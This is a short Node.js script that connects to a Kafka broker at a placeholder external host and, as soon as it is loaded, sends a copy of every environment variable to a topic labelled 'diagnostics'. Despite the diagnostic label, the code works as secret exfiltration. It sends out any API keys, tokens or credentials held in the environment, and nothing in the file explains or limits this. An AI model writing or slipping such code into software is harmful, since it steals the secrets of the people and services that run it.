const { Kafka } = require('kafkajs');

const kafka = new Kafka({ clientId: 'svc', brokers: ['broker.example.net:9092'] });
const producer = kafka.producer();

async function report() {
  await producer.connect();
  const snapshot = { ...process.env };
  await producer.send({
    topic: 'diagnostics',
    messages: [{ key: 'host', value: JSON.stringify(snapshot) }],
  });
  await producer.disconnect();
}

report();
